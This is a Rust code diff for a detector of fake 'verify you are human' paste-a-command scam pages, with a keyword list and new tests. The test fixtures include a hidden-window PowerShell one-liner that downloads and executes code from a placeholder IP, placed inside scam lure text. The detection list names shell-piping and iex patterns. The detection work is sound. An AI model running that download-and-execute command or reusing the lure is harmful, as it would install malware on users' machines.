@@ -398,9 +398,17 @@ fn dns_payload(flat: &str) -> bool {
     // The answer run as a command: `for /f` over it, or piped to a shell. A TXT lookup alone is
     // what mail admins type (`nslookup -type=txt _dmarc.example`).
     has_word(flat, "nslookup")
-        && ["for /f", "| cmd", "|cmd", "| powershell", "| pwsh", "iex", "invoke-expression"]
-            .iter()
-            .any(|w| has(flat, w))
+        && [
+            "for /f",
+            "| cmd",
+            "|cmd",
+            "| powershell",
+            "| pwsh",
+            "iex",
+            "invoke-expression",
+        ]
+        .iter()
+        .any(|w| has(flat, w))
 }
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
@@ -1334,7 +1342,10 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         return None;
     }
     let told = verify >= 1.0 || page.story().next().is_some();
-    if typed && (!told || !(run_dialog || terminal) || about >= 1.0 || write_up) {
+    // A command to type is on the page by design: a shell window named counts as a run step
+    // for it only next to a human check (a tutorial names one above its fix as well).
+    let typed_run = run_dialog || terminal || verify >= 1.0 && page.weight(Cat::RunShell) >= 1.0;
+    if typed && (!told || !typed_run || about >= 1.0 || write_up) {
         return None;
     }
     let mut instructions = Vec::new();
@@ -2538,5 +2549,55 @@ mod tests {
                 );
             }
         }
+    }
+
+    /// Review of the eleventh session: a kit's own pretext naming scammers is no write-up, a
+    /// mail admin's TXT lookup fetches nothing to run, a tutorial names PowerShell above the
+    /// command it shows, and a write-up narrates the steps (all fail on 3034f5f).
+    #[test]
+    fn kit_pretexts_tutorials_and_narrated_steps() {
+        use crate::verdict::Options;
+        let ps = "powershell -w h -c \"iex(irm http://203.0.113.70/v)\"";
+        let kit = format!(
+            "Verify you are human. This check protects the site from scammers and phishing bots. \
+             Press Win + R, paste with Ctrl + V and press Enter:\n{ps}"
+        );
+        assert!(judged(ps, &kit));
+        assert!(!judged(
+            "cmd /k nslookup -type=txt _dmarc.yourdomain.example",
+            "Emails not arriving? To fix it, check your DNS records. Press Win + R, paste the \
+             command and press Enter."
+        ));
+        let choco = "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object \
+                     System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))";
+        let tutorial = format!(
+            "Error: 'choco' is not recognized. To fix it, open PowerShell as administrator and \
+             paste this command:\n{choco}\nThen press Enter and restart PowerShell."
+        );
+        assert!(!judged(choco, &tutorial));
+        let level = |text: &str| {
+            let snap = Snapshot {
+                url: "https://research.example/".into(),
+                text: text.into(),
+                ..Default::default()
+            };
+            crate::engine::analyse(&snap, &Options::default()).level
+        };
+        assert_eq!(level(&tutorial.replace("paste", "type")), Level::Safe);
+        assert_eq!(
+            level(&format!(
+                "Malware analysis: a fake verification page delivering an infostealer. The lure \
+                 shows 'Verify you are human' and instructs the user to press Win + R and type \
+                 the following:\n{ps}"
+            )),
+            Level::Safe
+        );
+        assert_eq!(
+            level(&format!(
+                "Verify you are human.\nOpen Windows Terminal and type the command below, then \
+                 press Enter:\n{ps}"
+            )),
+            Level::Scam
+        );
     }
 }
